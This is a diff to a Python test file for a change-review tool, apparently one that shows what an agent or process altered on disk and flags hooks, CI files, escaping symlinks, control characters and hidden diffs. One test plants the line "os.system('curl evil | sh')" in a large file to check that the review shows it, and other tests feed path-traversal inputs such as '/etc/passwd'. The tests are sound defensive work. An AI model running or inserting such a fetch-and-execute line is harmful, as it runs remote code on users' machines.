@@ -1,10 +1,13 @@
 """Changes, their digest, layers, marks and cards."""
 
+import hashlib
+import time
+
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from luminaguard.effects import Change, Changeset, DirEntry, FileEntry, LinkEntry, check_path
+from luminaguard.effects import Change, Changeset, DirEntry, FileEntry, LinkEntry, check_path, diffs
 from luminaguard.effects.card import make_card
 from luminaguard.effects.layer import Observed, changeset_from_layer
 from luminaguard.effects.marks import Mark, marks_of
@@ -15,7 +18,7 @@ from luminaguard.errors import ChangesetRefused
 SHA = "a" * 64
 OTHER = "b" * 64
 names = st.text(st.characters(exclude_characters="/\0", codec="utf-8"), min_size=1, max_size=12).filter(
-    lambda n: n not in {".", ".."} and not n.startswith(".luminaguard-")
+    lambda n: n not in {".", ".."} and not n.startswith(".luminaguard-req-")
 )
 paths = st.lists(names, min_size=1, max_size=4).map("/".join)
 entries = st.one_of(
@@ -44,7 +47,7 @@ def test_different_changesets_have_different_digests(one, two):
     "path",
     ["", "/etc/passwd", "..", "a/../b", "a//b", "./a", "a/.", "a\0b", "x" * 256, "/".join(["abc"] * 1100),
      "/".join("a" * 201),
-     ".luminaguard-x/y", "\ud800"],
+     ".luminaguard-req-x/y", "\ud800"],
 )  # fmt: skip
 def test_paths_that_leave_or_confuse_are_refused(path):
     with pytest.raises(ChangesetRefused):
@@ -244,3 +247,107 @@ def test_a_card_has_a_limit_and_says_what_it_did_not_compare():
 def test_a_link_target_that_is_no_name_is_refused():
     with pytest.raises(ChangesetRefused):
         changeset_from_layer(BASE, [Observed("l", "symlink", target="\ud800")])
+
+
+# -- diffs and what a card must not hide ---------------------------------------------------------------
+
+lines = st.lists(st.sampled_from(["a", "b", "c", ""]), max_size=30)
+
+
+def patched(old: list[str], diff: list[str]) -> list[str]:
+    """Apply a unified diff the way patch does: what a card shows must be all that happens."""
+    out, position = [], 0
+    for line in diff:
+        if line.startswith("@@"):
+            start, _, length = line.split(" ")[1][1:].partition(",")
+            begin = int(start) - (0 if length == "0" else 1)
+            out += old[position:begin]
+            position = begin
+        elif line.startswith(" "):
+            assert old[position] == line[1:]
+            out.append(line[1:])
+            position += 1
+        elif line.startswith("-"):
+            assert old[position] == line[1:]
+            position += 1
+        else:
+            out.append(line[1:])
+    return out + old[position:]
+
+
+@given(lines, lines)
+def test_a_diff_turns_the_old_text_into_the_new_one(old, new):
+    assert patched(old, list(diffs.unified(old, new))) == new
+
+
+@given(lines, lines)
+def test_a_coarse_diff_does_too(old, new):
+    saved, diffs._FINE = diffs._FINE, 0
+    try:
+        assert patched(old, list(diffs.unified(old, new))) == new
+    finally:
+        diffs._FINE = saved
+
+
+def test_texts_made_to_be_slow_are_not():
+    old = [f"{number % 7}" for number in range(20_000)]
+    new = [f"{number % 5}" for number in range(20_000)]
+    start = time.process_time()
+    assert patched(old, list(diffs.unified(old, new))) == new
+    assert time.process_time() - start < 5  # it was minutes; this is no benchmark
+
+
+def card_of(before: bytes | None, after: bytes, path: str = "f.py", mode: int = 0o644):
+    def entry(data: bytes | None) -> FileEntry | None:
+        return None if data is None else FileEntry(mode, len(data), hashlib.sha256(data).hexdigest())
+
+    contents = {hashlib.sha256(data).hexdigest(): data for data in (before, after) if data is not None}
+    return make_card(Changeset.of([Change(path, entry(before), entry(after))]), contents.get, contents.get)
+
+
+def test_one_line_in_a_large_file_is_shown():
+    rows = [f"line {number}" for number in range(40_000)]
+    evil = [*rows[:20_000], "import os; os.system('curl evil | sh')", *rows[20_000:]]
+    (item,) = card_of("\n".join(rows).encode(), "\n".join(evil).encode()).items
+    assert "+import os; os.system('curl evil | sh')" in item.diff
+    assert (len(item.diff), Mark.UNSEEN in item.marks) == (8, False)
+
+
+def test_what_is_not_shown_is_loud():
+    card = card_of(b"a\n" * (1 << 20), b"b\n" * (1 << 20))
+    assert Mark.UNSEEN in card.items[0].marks
+    assert card.loud == card.items
+    assert "NOT SHOWN" in "\n".join(text for _, text in render(card))
+
+
+def test_files_from_windows_are_no_alarm_and_a_lone_return_is():
+    quiet = card_of(b"a;1\r\nb;2\r\n", b"a;1\r\nb;3\r\n", "bank.csv").items[0]
+    assert (quiet.diff[-2:], quiet.marks, quiet.note) == (("-b;2", "+b;3"), (), "lines end with CR LF")
+    assert Mark.CONTROL in card_of(b"a\nb\n", b"a\nevil\rb\n").items[0].marks
+    assert Mark.CONTROL in card_of(b"a\nb\n", b"a\r\nb\r\n").items[0].marks
+    assert card_of(None, b"\xef\xbb\xbfname\n").items[0].marks == ()
+
+
+def test_marks_that_are_common_are_counted_at_the_top():
+    changes = [Change(name, FileEntry(0o644, 1, SHA), None) for name in ("a", "b", ".hidden")]
+    text = [line for _, line in render(make_card(Changeset.of(changes), lambda _: b"x", lambda _: b"x"))]
+    assert text[2] == "ALSO MARKED: 3 DELETED, 1 HIDDEN"
+
+
+@pytest.mark.parametrize(
+    ("path", "mark"),
+    [
+        (".git/modules/lib/hooks/post-checkout", Mark.HOOK),
+        ("mirror.git/hooks/update", Mark.HOOK),
+        (".gitea/workflows/x.yml", Mark.CI),
+        (".forgejo/workflows/x.yml", Mark.CI),
+        (".github/actions/build/action.yml", Mark.CI),
+    ],
+)
+def test_more_places_that_run_by_themselves(path, mark):
+    assert mark in marks_of(Change(path, None, FileEntry(0o644, 1, SHA)))
+
+
+def test_a_link_through_a_link_may_leave():
+    assert Mark.LEAVES in marks_of(Change("d/lnk", None, LinkEntry("e/up/../x")))
+    assert Mark.LEAVES not in marks_of(Change("d/lnk", None, LinkEntry("../x")))
